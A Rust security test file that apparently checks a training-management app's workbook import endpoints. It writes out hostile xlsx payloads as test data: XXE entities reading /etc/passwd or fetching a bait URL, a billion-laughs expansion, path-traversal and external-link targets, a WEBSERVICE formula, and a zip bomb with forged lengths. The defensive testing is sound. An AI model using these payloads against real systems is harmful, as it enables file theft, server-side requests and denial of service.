//! Workbooks that ask for other files, or for more memory than there is: they are XML in a ZIP, and come from anybody.

use super::{Bait, tells_nothing};
use crate::packages::{shown, zip};
use reqwest::Method;
use reqwest::multipart::{Form, Part};
use serde_json::json;
use std::io::{Cursor, Write};
use tests::{Answer, City, Client, Process};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

const PACKAGE: &str = r#"<Relationships><Relationship Id="r1" Type="x/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const BOOK: &str = r#"<workbook><sheets><sheet name="学员" r:id="r1"/></sheets></workbook>"#;
const SHEETS: &str =
    r#"<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
const SHEET: &str = r#"<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>X-1</t></is></c><c r="B2" t="inlineStr"><is><t>韦大山</t></is></c></row></sheetData></worksheet>"#;
const TEXTS: &str = r#"<sst uniqueCount="2"><si><t>学员编号</t></si><si><t>姓名</t></si></sst>"#;
const ROSTER: &str = "/api/v1/people/import?dry_run=true&filename=a.xlsx";

/// A small roster in which these parts stand in place of its own, or beside them.
fn workbook(changed: &[(&str, &str)]) -> Vec<u8> {
    let own = [
        ("[Content_Types].xml", "<Types/>"),
        ("_rels/.rels", PACKAGE),
        ("xl/workbook.xml", BOOK),
        ("xl/_rels/workbook.xml.rels", SHEETS),
        ("xl/worksheets/sheet1.xml", SHEET),
        ("xl/sharedStrings.xml", TEXTS),
    ];
    let kept = own.iter().filter(|(name, _)| changed.iter().all(|(other, _)| other != name));
    let parts: Vec<(&str, &[u8])> = kept.chain(changed).map(|(name, text)| (*name, text.as_bytes())).collect();
    zip(&parts)
}

/// Whoever takes workbooks from people, on a server that is a process of its own: it may fall without us.
struct Desk {
    city: City,
    server: Process,
    trainer: Client,
    admin: Client,
    class: String,
}

impl Desk {
    async fn open() -> Self {
        let mut city = City::without_server().await;
        let server = city.process(&[]);
        city.url.clone_from(&server.url);
        let (trainer, admin) = (city.client("trainer").await, city.client("admin").await);
        let today = entity::Moment::now().day();
        let class = json!({
            "unit_id": city.units["东江县"], "title": "冬训班", "starts_on": today, "ends_on": today, "half_days": 2,
        });
        let class = trainer.post("/api/v1/classes", class).await.must(201).json()["id"].to_string();
        Self { city, server, trainer, admin, class }
    }

    /// What each place that takes workbooks says to this one; nothing is kept of it.
    async fn bring(&self, book: &[u8]) -> Vec<(&'static str, Answer)> {
        let quiz = format!("/studio/lessons/{}/quiz/import", self.city.lesson("draft"));
        let people = format!("/studio/classes/{}/people", self.class);
        let attendance = format!("/api/v1/classes/{}/attendance?dry_run=true&filename=a.xlsx", self.class);
        vec![
            ("roster", send(&self.admin, ROSTER, book).await),
            ("attendance", send(&self.trainer, &attendance, book).await),
            ("roster page", fill(&self.admin, "/office/import", ("confirm", ""), book).await),
            ("class page", fill(&self.trainer, &people, ("do", "roster"), book).await),
            ("quiz page", fill(&self.trainer, &quiz, ("action", "check"), book).await),
            ("lessons page", shown(&self.trainer, book).await.1),
        ]
    }

    /// The most memory the server has had so far, in MiB.
    fn peak(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.server.id())).unwrap();
        let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
        line.trim().trim_end_matches(" kB").parse::<u64>().unwrap() >> 10
    }
}

async fn send(client: &Client, path: &str, book: &[u8]) -> Answer {
    client.send(client.request(Method::POST, path).body(book.to_vec())).await
}

async fn fill(client: &Client, path: &str, (name, value): (&'static str, &'static str), book: &[u8]) -> Answer {
    let form = Form::new().text(name, value).part("file", Part::bytes(book.to_vec()).file_name("a.xlsx"));
    client.send(client.request(Method::POST, path).multipart(form)).await
}

/// What everybody says to a workbook that is not taken.
#[track_caller]
fn is_refused(what: &str, answers: &[(&'static str, Answer)]) {
    for (place, answer) in answers {
        assert!(matches!(answer.status.as_u16(), 413 | 422), "{what} at {place}: {} {}", answer.status, answer.text());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_entity_of_a_workbook_is_neither_fetched_nor_written_out() {
    let (bait, desk) = (Bait::lay(), Desk::open().await);
    let secret = desk.city.data.join("secret.txt");
    std::fs::write(&secret, "not for anybody").unwrap();
    let (secret, url) = (secret.display(), bait.url());
    let laughs: String = (1..30).map(|n| format!("<!ENTITY x{n} \"&x{0};&x{0};&x{0};&x{0};\">", n - 1)).collect();
    let declared = [
        format!("[<!ENTITY x SYSTEM \"file://{secret}\">]"),
        "[<!ENTITY x SYSTEM \"file:///etc/passwd\">]".to_owned(),
        format!("[<!ENTITY x SYSTEM \"{url}/x\">]"),
        format!("[<!ENTITY x PUBLIC \"-//x\" \"{url}/x\">]"),
        format!("[<!ENTITY % p SYSTEM \"{url}/p.dtd\"> %p;]"),
        format!("SYSTEM \"{url}/x.dtd\""),
        format!("[<!ENTITY x0 \"哈哈哈哈哈哈哈哈\">{laughs}<!ENTITY x \"&x29;\">]"),
    ];
    let parts = [
        ("xl/worksheets/sheet1.xml", SHEET, "韦大山"),
        ("xl/sharedStrings.xml", TEXTS, "姓名"),
        ("xl/workbook.xml", BOOK, "学员"),
    ];
    send(&desk.admin, ROSTER, &workbook(&[])).await.must(200);
    for declared in &declared {
        for (part, text, word) in parts {
            let head = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE x {declared}>");
            let used = format!("{head}{}", text.replace(word, "&x;"));
            let answers = desk.bring(&workbook(&[(part, &used)])).await;
            is_refused(&format!("{part} with {declared}"), &answers);
            let unused = send(&desk.admin, ROSTER, &workbook(&[(part, &format!("{head}{text}"))])).await.must(200);
            for (place, answer) in answers.into_iter().chain([("roster", unused)]) {
                assert!(!answer.text().contains("not for anybody"), "{part} at {place} with {declared}");
                tells_nothing(&answer);
            }
        }
    }
    desk.trainer.get("/healthz").await.must(200);
    assert_eq!(bait.calls(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_workbook_links_to_is_not_looked_for() {
    let (bait, desk) = (Bait::lay(), Desk::open().await);
    let url = bait.url();
    let far = |kind: &str, target: &str| {
        format!(
            r#"<Relationships><Relationship Id="r1" Type="x/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
        )
    };
    let linked = r#"<Relationship Id="r2" Type="x/externalLink" Target="externalLinks/externalLink1.xml"/></"#;
    let linked = SHEETS.replace("</", linked);
    let asking = SHEET.replace("<is>", &format!("<f>WEBSERVICE(\"{url}/f\")</f><is>"));
    let book = workbook(&[
        ("xl/_rels/workbook.xml.rels", &linked),
        ("xl/externalLinks/externalLink1.xml", r#"<externalLink><externalBook r:id="r1"/></externalLink>"#),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", &far("externalLinkPath", &format!("{url}/b.xlsx"))),
        ("xl/worksheets/sheet1.xml", &asking),
    ]);
    send(&desk.admin, ROSTER, &book).await.must(200);
    for (place, answer) in desk.bring(&book).await {
        assert!(!answer.status.is_server_error(), "{place}: {}", answer.text());
    }
    for target in [format!("{url}/sheet1.xml"), "file:///etc/passwd".into(), "/../../etc/passwd".into()] {
        let book = workbook(&[("xl/_rels/workbook.xml.rels", &far("worksheet", &target))]);
        let answers = desk.bring(&book).await;
        is_refused(&target, &answers);
        answers.iter().for_each(|(_, answer)| tells_nothing(answer));
    }
    assert_eq!(bait.calls(), 0);
}

/// A workbook of a few hundred kilobytes whose sheet unpacks to 257 MiB.
fn bomb() -> Vec<u8> {
    let small = workbook(&[("xl/_rels/workbook.xml.rels", &SHEETS.replace("sheet1", "sheet2"))]);
    let mut zip = ZipWriter::new_append(Cursor::new(small)).unwrap();
    zip.start_file("xl/worksheets/sheet2.xml", SimpleFileOptions::default()).unwrap();
    let blank = vec![b' '; 1 << 20];
    for _ in 0..257 {
        zip.write_all(&blank).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workbook_that_unpacks_without_end_is_refused_soon_whatever_it_says_of_its_length() {
    let desk = Desk::open().await;
    let mut bomb = bomb();
    assert!(bomb.len() < 1 << 20);
    let began = std::time::Instant::now();
    is_refused("a bomb", &desk.bring(&bomb).await);
    assert!(began.elapsed() < tests::PATIENCE);
    let entries: Vec<usize> = (0..bomb.len() - 4).filter(|at| bomb[*at..].starts_with(b"PK\x01\x02")).collect();
    for entry in entries {
        bomb[entry + 24..entry + 28].copy_from_slice(&1000_u32.to_le_bytes()); // the length it declares
    }
    is_refused("a bomb that lies", &[("roster", send(&desk.admin, ROSTER, &bomb).await)]);
    desk.trainer.get("/healthz").await.must(200);
    assert!(desk.peak() < 1024, "{} MiB", desk.peak());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workbook_gets_no_memory_for_what_it_only_claims() {
    let desk = Desk::open().await;
    for count in ["10000000000000", "18446744073709551615"] {
        let texts = TEXTS.replace("\"2\"", &format!("\"{count}\""));
        is_refused(count, &desk.bring(&workbook(&[("xl/sharedStrings.xml", &texts)])).await);
    }
    let font = format!(r#"<fonts><font><name val="{}"/></font></fonts>"#, "A".repeat(200_000));
    let styles = format!("<styleSheet>{font}<cellXfs>{}</cellXfs></styleSheet>", r#"<xf fontId="0"/>"#.repeat(2_000));
    is_refused("styles", &desk.bring(&workbook(&[("xl/styles.xml", &styles)])).await);
    send(&desk.admin, ROSTER, &workbook(&[])).await.must(200);
    assert!(desk.peak() < 1024, "{} MiB", desk.peak());
}
